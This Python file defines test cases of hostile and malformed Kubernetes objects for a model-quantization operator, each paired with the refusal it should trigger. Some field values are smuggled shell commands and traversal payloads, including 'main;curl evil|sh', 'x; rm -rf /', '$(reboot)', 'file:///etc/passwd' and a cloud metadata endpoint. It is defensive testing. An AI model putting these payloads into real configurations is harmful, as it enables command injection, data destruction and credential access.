"""A corpus of malformed and hostile QuantizedModel and QuantizationPolicy objects (issue 10).

Each case says what must become of it:

* ``admission`` — the API server refuses it (schema, CEL rules, Kubernetes' own metadata checks)
  and its error names every text in ``names`` (a field path, mostly);
* ``condition`` — the API server stores it, and the operator surfaces it on the model as the
  condition ``expect_condition`` (type, status, reason) whose message names every text in
  ``names``. For a policy case the condition is the one its ``probe`` model gets under it.

Bodies are built from a ``Ctx`` (the namespace, the test model's S3 location, the run's label), so
the same corpus runs in any session. ``test_hostile_input.py`` runs it on the real control plane.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any, Callable

from e2e import demo

GROUP_VERSION = "fewerbits.io/v1alpha1"
MIB = 1 << 20
# A node label no node carries: Jobs placed by the corpus's policies stay Pending, so nothing in
# this corpus ever runs a real quantization on the test machine.
PARKED_JOB_PLACEMENT = {"nodeSelector": {"fewerbits.io/hostile-corpus-nowhere": "true"}, "gpus": 0}


@dataclass
class Ctx:
    """Where a run puts its objects."""

    namespace: str
    """The namespace of the model (for policy cases: the policy's own namespace)."""
    run_label: tuple[str, str]
    """A namespace label only this run's namespaces carry (policies select on it)."""
    source_uri: str
    s3_endpoint: str
    secret: str
    """A Secret in ``namespace`` with the S3 server's credentials."""
    half_secret: str
    """A Secret in ``namespace`` with only AWS_ACCESS_KEY_ID."""
    artifact_bucket: str
    hostile_config_uri: Callable[[str], str]
    """The s3:// directory holding a case's hostile config.json."""

    def spec(self, **overrides: Any) -> dict[str, Any]:
        """A valid spec (the integration tests' test model), with top-level parts replaced."""
        # A pool no test cluster has: a model that gets past Accepted plans nothing, so no Job.
        base = {"quantization": {"format": "fp8-dynamic"},
                "serving": {"maxModelLen": 256, "targets": [{"product": "NVIDIA-B200"}]}}
        spec = demo.test_model_spec(self.s3_endpoint, self.source_uri, self.secret, self.namespace, **base)
        return demo.merge_spec(spec, **overrides)

    def selector(self) -> dict[str, Any]:
        return {"matchLabels": {self.run_label[0]: self.run_label[1]}}


Body = Callable[[Ctx], dict[str, Any]]


@dataclass(frozen=True)
class Case:
    id: str
    kind: str
    """QuantizedModel or QuantizationPolicy."""
    expect: str
    """admission or condition."""
    names: tuple[str, ...]
    """Texts the refusal or the condition message must contain."""
    body: Body
    """The object (a model's name is the case id unless the body sets another)."""
    expect_condition: tuple[str, str, str] | None = None
    """(type, status, reason) for condition cases."""
    probe: Body | None = None
    """For a policy condition case: the model judged under the policy."""
    config_json: bytes | None = None
    """A hostile config.json uploaded for the case (its source is ``ctx.hostile_config_uri(id)``)."""
    creates_objects: bool = False
    """True only for cases that are accepted and may own (parked) Jobs."""
    notes: str = ""


def qm(name: str, spec: dict[str, Any] | None = None, metadata: dict[str, Any] | None = None,
       ctx: Ctx | None = None, drop_spec: bool = False) -> dict[str, Any]:
    body: dict[str, Any] = {"apiVersion": GROUP_VERSION, "kind": "QuantizedModel",
                            "metadata": {"name": name, **(metadata or {})}}
    if ctx is not None:
        body["metadata"]["namespace"] = ctx.namespace
    if not drop_spec:
        body["spec"] = spec
    return body


def qp(name: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": GROUP_VERSION, "kind": "QuantizationPolicy", "metadata": {"name": name}, "spec": spec}


def policy_name(case_id: str, ctx: Ctx) -> str:
    return f"{case_id}-{ctx.run_label[1]}"


# ------------------------------------------------------------------ QuantizedModel, admission


def _qm_admission(id_: str, names: tuple[str, ...], make_spec: Callable[[Ctx], dict[str, Any]],
                  notes: str = "") -> Case:
    return Case(id_, "QuantizedModel", "admission", names,
                lambda c, id_=id_, make_spec=make_spec: qm(id_, make_spec(c), ctx=c), notes=notes)


def _with(part: str, **values: Any) -> Callable[[Ctx], dict[str, Any]]:
    return lambda c: c.spec(**{part: values})


def _source(uri: str, **more: Any) -> Callable[[Ctx], dict[str, Any]]:
    return lambda c: c.spec(source={"uri": uri, **more})


def _storage(uri: str, **more: Any) -> Callable[[Ctx], dict[str, Any]]:
    return lambda c: c.spec(storage={"uri": uri, "endpoint": c.s3_endpoint, **more})


def _adapter(name: str) -> dict[str, Any]:
    return {"name": name, "source": {"uri": "hf://fewerbits-test/plays-lora", "revision": "main"}}


QM_ADMISSION = [
    # wrong types
    _qm_admission("qm-type-max-replicas-string", ("spec.autoscaling.maxReplicas",),
                  _with("autoscaling", enabled=True, maxReplicas="four")),
    _qm_admission("qm-type-extraargs-string", ("spec.serving.extraArgs",),
                  _with("serving", extraArgs="--enforce-eager")),
    _qm_admission("qm-type-source-string", ("spec.source",), lambda c: c.spec(source="hf://org/name")),
    _qm_admission("qm-type-trust-remote-code-string", ("spec.source.trustRemoteCode",),
                  lambda c: c.spec(source={**c.spec()["source"], "trustRemoteCode": "yes"})),
    # out-of-range numbers
    _qm_admission("qm-range-gpu-memory-utilization", ("spec.serving.gpuMemoryUtilization",),
                  _with("serving", gpuMemoryUtilization=1.5)),
    _qm_admission("qm-range-negative-replicas", ("spec.serving.replicas",), _with("serving", replicas=-1)),
    _qm_admission("qm-range-max-model-len-2e40", ("spec.serving.maxModelLen",), _with("serving", maxModelLen=2**40)),
    _qm_admission("qm-range-zero-samples", ("spec.quantization.calibration.samples",),
                  lambda c: c.spec(quantization={"calibration": {"samples": 0}})),
    _qm_admission("qm-range-kv-usage", ("spec.autoscaling.targetKVCacheUsage",),
                  _with("autoscaling", targetKVCacheUsage=1.5)),
    _qm_admission("qm-range-negative-gate", ("spec.quantization.qualityGate.maxPerplexityIncreasePercent",),
                  lambda c: c.spec(quantization={"qualityGate": {"maxPerplexityIncreasePercent": -3}})),
    # quality-gate inputs that would silently mean something else (issue 31 item 9)
    _qm_admission("qm-gate-task-twice", ("spec.quantization.qualityGate.benchmarks",
                                         "each task and metric may be listed once"),
                  lambda c: c.spec(quantization={"qualityGate": {"benchmarks": [
                      {"task": "arc_easy", "minRecoveryPercent": 99}, {"task": "arc_easy", "minRecoveryPercent": 90}]}})),
    _qm_admission("qm-gate-eval-is-calibration", ("spec.quantization.qualityGate.evalDataset",
                                                  "is the calibration data"),
                  lambda c: c.spec(quantization={"format": "w4a16-gptq",
                                                 "qualityGate": {"evalDataset": "general-en"}})),
    # unknown formats and enums
    _qm_admission("qm-unknown-format", ("spec.quantization.format",), _with("quantization", format="int3")),
    _qm_admission("qm-unknown-kvcache", ("spec.quantization.kvCache",), _with("quantization", kvCache="int4")),
    _qm_admission("qm-unknown-family", ("spec.serving.targets[0].family",),
                  _with("serving", targets=[{"family": "volta"}])),
    # URI schemes
    _qm_admission("qm-uri-file-scheme", ("spec.source.uri",), _source("file:///etc/passwd")),
    _qm_admission("qm-uri-javascript", ("spec.source.uri",), _source("javascript:alert(1)")),
    _qm_admission("qm-uri-http-storage", ("spec.storage.uri",), _storage("http://minio.local/artifacts")),
    _qm_admission("qm-uri-s3-without-bucket", ("spec.source.uri",), _source("s3://")),
    _qm_admission("qm-uri-endpoint-file", ("spec.storage.endpoint",),
                  lambda c: c.spec(storage={"uri": f"s3://{c.artifact_bucket}/x", "endpoint": "file:///etc/passwd"})),
    # path tricks
    _qm_admission("qm-path-dotdot-source", ("spec.source.uri", "'..'"), _source("s3://base-models/a/../../etc")),
    _qm_admission("qm-path-percent-encoded-dotdot", ("spec.source.uri",), _source("s3://base-models/%2e%2e/etc")),
    _qm_admission("qm-path-absolute-pvc", ("spec.source.uri",), _source("pvc:///etc/passwd")),
    _qm_admission("qm-path-nul-byte-prefix", ("spec.storage.uri",), _storage("s3://artifacts/a\x00b")),
    _qm_admission("qm-path-backslash-bucket", ("spec.storage.uri",), _storage("s3://arti\\facts/x")),
    _qm_admission("qm-path-empty-segment", ("spec.storage.uri",), _storage("s3://artifacts/a//b")),
    _qm_admission("qm-path-dotdot-dataset", ("spec.quantization.calibration.dataset",),
                  lambda c: c.spec(quantization={"calibration": {"dataset": "s3://base-models/x/../../y.jsonl"}})),
    _qm_admission("qm-path-secret-name", ("spec.storage.credentialsSecret",),
                  lambda c: c.spec(storage={"uri": f"s3://{c.artifact_bucket}/x", "credentialsSecret": "../kube-system/x"})),
    # shell metacharacters and newlines
    _qm_admission("qm-shell-served-model-name", ("spec.serving.servedModelName",),
                  _with("serving", servedModelName="x; rm -rf /")),
    _qm_admission("qm-newline-served-model-name", ("spec.serving.servedModelName",),
                  _with("serving", servedModelName="tiny\nX-Injected: 1")),
    _qm_admission("qm-newline-extraarg", ("spec.serving.extraArgs[0]",),
                  _with("serving", extraArgs=["--enforce-eager\n--trust-remote-code"])),
    _qm_admission("qm-space-extraarg", ("spec.serving.extraArgs[0]",), _with("serving", extraArgs=["--port 22"])),
    _qm_admission("qm-shell-revision", ("spec.source.revision",),
                  lambda c: c.spec(source={**c.spec()["source"], "revision": "main;curl evil|sh"})),
    _qm_admission("qm-shell-ignore", ("spec.quantization.ignore[0]",), _with("quantization", ignore=["lm_head`id`"])),
    _qm_admission("qm-shell-nodeselector-key", ("spec.serving.targets[0].nodeSelector",),
                  _with("serving", targets=[{"nodeSelector": {"gpu;reboot": "x"}}])),
    Case("qm-shell-label-value", "QuantizedModel", "admission", ("metadata.labels",),
         lambda c: qm("qm-shell-label-value", c.spec(), {"labels": {"team": "a;b$(id)"}}, c)),
    Case("qm-name-uppercase-underscore", "QuantizedModel", "admission", ("metadata.name",),
         lambda c: qm("Bad_Name", c.spec(), ctx=c)),
    Case("qm-name-too-long", "QuantizedModel", "admission", ("metadata.name",),
         lambda c: qm("n" * 45, c.spec(), ctx=c)),
    # huge strings and lists
    _qm_admission("qm-huge-served-model-name-1mib", ("spec.serving.servedModelName",),
                  _with("serving", servedModelName="a" * MIB)),
    Case("qm-huge-annotation-1mib", "QuantizedModel", "admission", ("metadata.annotations",),
         lambda c: qm("qm-huge-annotation-1mib", c.spec(), {"annotations": {"x": "a" * MIB}}, c)),
    _qm_admission("qm-huge-extraargs-10k", ("spec.serving.extraArgs",),
                  _with("serving", extraArgs=["--enforce-eager"] * 10_000)),
    _qm_admission("qm-huge-ignore-10k", ("spec.quantization.ignore",),
                  _with("quantization", ignore=[f"layer{i}" for i in range(10_000)])),
    # conflicting fields
    _qm_admission("qm-conflict-min-gt-max", ("spec.autoscaling", "minReplicas must be less than or equal to maxReplicas"),
                  _with("autoscaling", minReplicas=5, maxReplicas=2)),
    _qm_admission("qm-conflict-two-selectors", ("spec.serving.targets[0]", "exactly one"),
                  _with("serving", targets=[{"family": "hopper", "product": "NVIDIA-L4"}])),
    # unknown fields, nulls, missing parts
    _qm_admission("qm-unknown-field", ("spec.serving.replicass",), _with("serving", replicass=2),
                  notes="with fieldValidation=Strict, as kubectl sends it; a lax client gets the field pruned"),
    _qm_admission("qm-null-source", ("spec.source",), lambda c: c.spec(source=None),
                  notes="null is pruned (no field is nullable), then source is missing"),
    Case("qm-missing-spec", "QuantizedModel", "admission", ("spec",),
         lambda c: qm("qm-missing-spec", ctx=c, drop_spec=True)),
    # LoRA adapters (issue 43): a request names an adapter by its name, so names must tell them apart
    _qm_admission("qm-adapter-name-twice", ("spec.adapters", "adapter names must be unique"),
                  lambda c: c.spec(adapters=[_adapter("plays"), _adapter("plays")])),
    _qm_admission("qm-adapter-named-as-the-model", ("spec", "servedModelName"),
                  lambda c: c.spec(serving={"servedModelName": "tiny"}, adapters=[_adapter("tiny")])),
    _qm_admission("qm-adapter-name-with-slash", ("spec.adapters[0].name",),
                  lambda c: c.spec(adapters=[_adapter("org/plays")])),
    _qm_admission("qm-adapter-pvc-source", ("spec.adapters[0].source.uri",),
                  lambda c: c.spec(adapters=[{"name": "plays", "source": {"uri": "pvc://claim/plays"}}])),
    _qm_admission("qm-adapter-path-tricks", ("spec.adapters[0].source.uri", "'..'"),
                  lambda c: c.spec(adapters=[{"name": "plays", "source": {"uri": "s3://bucket/a/../b"}}])),
    _qm_admission("qm-adapter-gate-negative", ("spec.adapters[0].gate.maxPerplexityIncreasePercent",),
                  lambda c: c.spec(adapters=[{**_adapter("plays"), "gate": {"maxPerplexityIncreasePercent": -1}}])),
]


# ------------------------------------------------------------------ QuantizedModel, condition


def _qm_condition(id_: str, cond: tuple[str, str, str], names: tuple[str, ...],
                  make_spec: Callable[[Ctx], dict[str, Any]], config_json: bytes | None = None,
                  name: str | None = None) -> Case:
    return Case(id_, "QuantizedModel", "condition", names,
                lambda c, make_spec=make_spec: qm(name or id_, make_spec(c), ctx=c),
                expect_condition=cond, config_json=config_json)


POLICY_VIOLATION = ("Accepted", "False", "PolicyViolation")
INVALID_SPEC = ("Accepted", "False", "InvalidSpec")
MISSING_SECRET = ("Accepted", "False", "MissingSecret")
NO_CONFIG = ("Planned", "False", "ModelConfigUnavailable")


def _extra(*args: str) -> Callable[[Ctx], dict[str, Any]]:
    return lambda c: c.spec(serving={**c.spec()["serving"], "extraArgs": list(args)})


def _hostile_source(id_: str) -> Callable[[Ctx], dict[str, Any]]:
    return lambda c: c.spec(source={**c.spec()["source"], "uri": c.hostile_config_uri(id_)})


_TINY = {"model_type": "llama", "hidden_size": 128, "num_hidden_layers": 2, "num_attention_heads": 4,
         "vocab_size": 1000, "intermediate_size": 256, "max_position_embeddings": 2048}


def _config(**patch: Any) -> bytes:
    # json.dumps writes float('inf') as Infinity, which Python's json (the operator's) reads back.
    return json.dumps({**_TINY, **patch}).encode()


QM_CONDITION = [
    # extraArgs governed by policy (judged by the vLLM parser's dest, so spellings cannot slip past)
    _qm_condition("qm-extra-trust-remote-code", POLICY_VIOLATION,
                  ("spec.serving.extraArgs[0]", "--trust-remote-code", "rules.allowedExtraArgs"),
                  _extra("--trust-remote-code")),
    _qm_condition("qm-extra-trust-remote-code-underscore", POLICY_VIOLATION,
                  ("spec.serving.extraArgs[0]", "--trust_remote_code"), _extra("--trust_remote_code")),
    _qm_condition("qm-extra-quantization-equals", POLICY_VIOLATION,
                  ("spec.serving.extraArgs[0]", "--quantization", "overrides the plan"), _extra("--quantization=fp8")),
    _qm_condition("qm-extra-short-q", POLICY_VIOLATION, ("spec.serving.extraArgs[0]", "-q"), _extra("-q", "fp8")),
    _qm_condition("qm-extra-kv-cache-dtype-two-items", POLICY_VIOLATION,
                  ("spec.serving.extraArgs[0]", "--kv-cache-dtype"), _extra("--kv-cache-dtype", "auto")),
    _qm_condition("qm-extra-api-key-after-harmless", POLICY_VIOLATION,
                  ("spec.serving.extraArgs[1]", "--api-key"), _extra("--enforce-eager", "--api-key=x")),
    # extraArgs vLLM itself would refuse: the pod would crash-loop, so refuse it here
    _qm_condition("qm-extra-shell-substitution-value", INVALID_SPEC,
                  ("spec.serving.extraArgs", "--max-num-seqs", "must be an integer"), _extra("--max-num-seqs=$(reboot)")),
    _qm_condition("qm-extra-unknown-flag", INVALID_SPEC, ("spec.serving.extraArgs", "--no-such-flag"),
                  _extra("--no-such-flag")),
    _qm_condition("qm-extra-bare-value", INVALID_SPEC, ("spec.serving.extraArgs", "'rm'"), _extra("rm")),
    # trust
    _qm_condition("qm-trust-remote-code-field", POLICY_VIOLATION, ("spec.source.trustRemoteCode",),
                  lambda c: c.spec(source={**c.spec()["source"], "trustRemoteCode": True})),
    # what only the operator can check
    _qm_condition("qm-unknown-builtin-dataset", INVALID_SPEC, ("spec.quantization.calibration.dataset", "wikitext"),
                  lambda c: c.spec(quantization={"calibration": {"dataset": "wikitext"}})),
    _qm_condition("qm-endpoint-on-hf-source", INVALID_SPEC, ("spec.source.endpoint",),
                  lambda c: c.spec(source={"uri": "hf://org/name", "endpoint": "http://169.254.169.254"})),
    _qm_condition("qm-name-with-dots", INVALID_SPEC, ("metadata.name",), lambda c: c.spec(), name="dotted.name"),
    # Secrets
    _qm_condition("qm-missing-storage-secret", MISSING_SECRET, ("spec.storage.credentialsSecret", "nope"),
                  lambda c: c.spec(storage={**c.spec()["storage"], "credentialsSecret": "nope"})),
    _qm_condition("qm-missing-source-secret", MISSING_SECRET, ("spec.source.credentialsSecret", "also-nope"),
                  lambda c: c.spec(source={**c.spec()["source"], "credentialsSecret": "also-nope"})),
    _qm_condition("qm-secret-lacking-keys", MISSING_SECRET,
                  ("spec.storage.credentialsSecret", "has no key AWS_SECRET_ACCESS_KEY"),
                  lambda c: c.spec(storage={**c.spec()["storage"], "credentialsSecret": c.half_secret})),
    _qm_condition("qm-hf-secret-without-token", MISSING_SECRET, ("spec.source.credentialsSecret", "HF_TOKEN"),
                  lambda c: {**c.spec(), "source": {"uri": "hf://org/name", "credentialsSecret": c.secret}}),
    # model configs the planner cannot use (hostile config.json files in object storage)
    _qm_condition("qm-pvc-source-unplannable", NO_CONFIG, ("pvc://",),
                  lambda c: {**c.spec(), "source": {"uri": "pvc://claim/models/x"}}),
    _qm_condition("qm-source-without-config", NO_CONFIG, ("no-such-model/config.json", "does not exist"),
                  lambda c: c.spec(source={**c.spec()["source"], "uri": "s3://base-models/no-such-model"})),
    _qm_condition("qm-config-trillion-layers", NO_CONFIG, ("num_hidden_layers",),
                  _hostile_source("qm-config-trillion-layers"), _config(num_hidden_layers=10**12)),
    _qm_condition("qm-config-infinite-width", NO_CONFIG, ("hidden_size",),
                  _hostile_source("qm-config-infinite-width"), _config(hidden_size=float("inf"))),
    _qm_condition("qm-config-rope-factor-string", NO_CONFIG, ("factor",),
                  _hostile_source("qm-config-rope-factor-string"),
                  _config(rope_scaling={"rope_type": "linear", "factor": "$(reboot)"})),
    _qm_condition("qm-config-not-json", NO_CONFIG, ("not JSON",),
                  _hostile_source("qm-config-not-json"), b"\x00\xff<html>not json"),
    _qm_condition("qm-config-kv-heads-above-heads", NO_CONFIG, ("num_key_value_heads",),
                  _hostile_source("qm-config-kv-heads-above-heads"), _config(num_key_value_heads=64)),
    # null where an object is expected: pruned by the API server, the documented defaults apply
    _qm_condition("qm-null-autoscaling", ("Accepted", "True", "Valid"), (),
                  lambda c: c.spec(autoscaling=None)),
]


# ------------------------------------------------------------------ QuantizationPolicy, admission


def _qp_admission(id_: str, names: tuple[str, ...], make: Callable[[Ctx], dict[str, Any]]) -> Case:
    return Case(id_, "QuantizationPolicy", "admission", names,
                lambda c, id_=id_, make=make: qp(policy_name(id_, c), make(c)))


def _rules(**rules: Any) -> Callable[[Ctx], dict[str, Any]]:
    return lambda c: {"namespaceSelector": c.selector(), "rules": rules}


def _job(**placement: Any) -> Callable[[Ctx], dict[str, Any]]:
    return lambda c: {"namespaceSelector": c.selector(), "rules": {"quantizationJob": placement}}


QP_ADMISSION = [
    _qp_admission("qp-selector-bad-operator", ("spec.namespaceSelector.matchExpressions[0].operator",),
                  lambda c: {"namespaceSelector": {"matchExpressions": [{"key": "team", "operator": "Like",
                                                                          "values": ["a"]}]}}),
    _qp_admission("qp-selector-bad-key", ("spec.namespaceSelector.matchLabels",),
                  lambda c: {"namespaceSelector": {"matchLabels": {"team name!": "a"}}}),
    _qp_admission("qp-negative-ceiling", ("spec.rules.maxPerplexityIncreasePercent",),
                  _rules(maxPerplexityIncreasePercent=-1)),
    _qp_admission("qp-zero-max-replicas", ("spec.rules.maxReplicas",), _rules(maxReplicas=0)),
    _qp_admission("qp-unknown-allowed-format", ("spec.rules.allowedFormats[0]",), _rules(allowedFormats=["int3"])),
    _qp_admission("qp-allowed-extra-arg-underscore", ("spec.rules.allowedExtraArgs[0]",),
                  _rules(allowedExtraArgs=["--trust_remote_code"])),
    _qp_admission("qp-format-by-family-auto", ("spec.formatByGPUFamily", "concrete format"),
                  lambda c: {"namespaceSelector": c.selector(), "formatByGPUFamily": {"ampere": "auto"}}),
    _qp_admission("qp-format-by-family-unknown-family", ("spec.formatByGPUFamily", "keys must be one of"),
                  lambda c: {"namespaceSelector": c.selector(), "formatByGPUFamily": {"volta": "fp8-dynamic"}}),
    _qp_admission("qp-defaults-storage-dotdot", ("spec.defaults.storage.uri", "'..'"),
                  lambda c: {"namespaceSelector": c.selector(), "defaults": {"storage": {"uri": "s3://artifacts/a/../b"}}}),
    _qp_admission("qp-defaults-wrong-type", ("spec.defaults.autoscaling.maxReplicas",),
                  lambda c: {"namespaceSelector": c.selector(), "defaults": {"autoscaling": {"maxReplicas": "lots"}}}),
    _qp_admission("qp-priority-huge", ("spec.priority",),
                  lambda c: {"namespaceSelector": c.selector(), "priority": 10**12}),
    _qp_admission("qp-rules-wrong-type", ("spec.rules",),
                  lambda c: {"namespaceSelector": c.selector(), "rules": "allow-everything"}),
    _qp_admission("qp-job-priority-class-shell", ("spec.rules.quantizationJob.priorityClassName",),
                  _job(priorityClassName="high; rm -rf /")),
    _qp_admission("qp-job-toleration-exists-with-value", ("spec.rules.quantizationJob.tolerations[0]",
                                                          "value must be empty when operator is Exists"),
                  _job(tolerations=[{"key": "gpu", "operator": "Exists", "value": "x"}])),
    _qp_admission("qp-job-toleration-key-shell", ("spec.rules.quantizationJob.tolerations[0].key",),
                  _job(tolerations=[{"key": "a;b", "operator": "Exists"}])),
    _qp_admission("qp-job-nodeselector-long-key", ("spec.rules.quantizationJob.nodeSelector",),
                  _job(nodeSelector={"example.com/" + "k" * 100: "v"})),
    _qp_admission("qp-huge-allowed-sources-10k", ("spec.rules.allowedSources",),
                  _rules(allowedSources=[f"hf://org-{i}/*" for i in range(10_000)])),
    _qp_admission("qp-huge-allowed-source-1mib", ("spec.rules.allowedSources[0]",),
                  _rules(allowedSources=["hf://" + "a" * MIB])),
]


# ------------------------------------------------------------------ QuantizationPolicy, condition


def _qp_condition(id_: str, cond: tuple[str, str, str], names: tuple[str, ...],
                  make: Callable[[Ctx], dict[str, Any]], probe: Callable[[Ctx], dict[str, Any]],
                  creates_objects: bool = False) -> Case:
    return Case(id_, "QuantizationPolicy", "condition", names,
                lambda c, id_=id_, make=make: qp(policy_name(id_, c), {
                    "namespaceSelector": {"matchLabels": {"fewerbits.io/hostile-case": c.namespace}},
                    **make(c)}),
                expect_condition=cond,
                probe=lambda c, probe=probe: qm("probe", probe(c), ctx=c),
                creates_objects=creates_objects)


QP_CONDITION = [
    # A policy that does allow one plan-owned flag: the model is accepted (and targets a pool the
    # cluster lacks, so nothing is created; were it planned, its Job would be parked).
    _qp_condition("qp-allows-kv-cache-dtype", ("Accepted", "True", "Valid"), ("qp-allows-kv-cache-dtype",),
                  lambda c: {"rules": {"allowedExtraArgs": ["--kv-cache-dtype"], "quantizationJob": PARKED_JOB_PLACEMENT}},
                  lambda c: c.spec(serving={"extraArgs": ["--kv-cache-dtype", "auto"]})),
    _qp_condition("qp-allowed-flag-does-not-cover-trust", POLICY_VIOLATION,
                  ("rule allowedExtraArgs", "spec.serving.extraArgs[1]", "--trust-remote-code"),
                  lambda c: {"rules": {"allowedExtraArgs": ["--kv-cache-dtype"]}},
                  lambda c: c.spec(serving={"maxModelLen": 256, "extraArgs": ["--kv-cache-dtype=auto",
                                                                              "--trust-remote-code"]})),
    _qp_condition("qp-allowed-sources-glob", POLICY_VIOLATION, ("rule allowedSources", "spec.source.uri"),
                  lambda c: {"rules": {"allowedSources": ["hf://allowed-org/*"]}}, lambda c: c.spec()),
    _qp_condition("qp-defaults-conflict-with-model", INVALID_SPEC,
                  ("spec.autoscaling", "minReplicas (6) must be less than or equal to maxReplicas (2)"),
                  lambda c: {"defaults": {"autoscaling": {"minReplicas": 6}}},
                  lambda c: c.spec(autoscaling={"enabled": True, "maxReplicas": 2})),
    _qp_condition("qp-replicas-ceiling", POLICY_VIOLATION, ("rule maxReplicas", "spec.serving.replicas"),
                  lambda c: {"rules": {"maxReplicas": 2}},
                  lambda c: c.spec(serving={**c.spec()["serving"], "replicas": 5})),
    _qp_condition("qp-gate-ceiling", POLICY_VIOLATION,
                  ("rule maxPerplexityIncreasePercent", "spec.quantization.qualityGate.maxPerplexityIncreasePercent"),
                  lambda c: {"rules": {"maxPerplexityIncreasePercent": 1}}, lambda c: c.spec()),
    _qp_condition("qp-allowed-formats-only-auto", POLICY_VIOLATION, ("rule allowedFormats", "spec.quantization.format"),
                  lambda c: {"rules": {"allowedFormats": ["auto", "w8a8-int8"]}}, lambda c: c.spec()),
]


CORPUS: list[Case] = QM_ADMISSION + QM_CONDITION + QP_ADMISSION + QP_CONDITION


def summary() -> dict[str, int]:
    out: dict[str, int] = {}
    for c in CORPUS:
        key = f"{c.kind}/{c.expect}"
        out[key] = out.get(key, 0) + 1
    return out


assert len({c.id for c in CORPUS}) == len(CORPUS), "case ids must be unique"
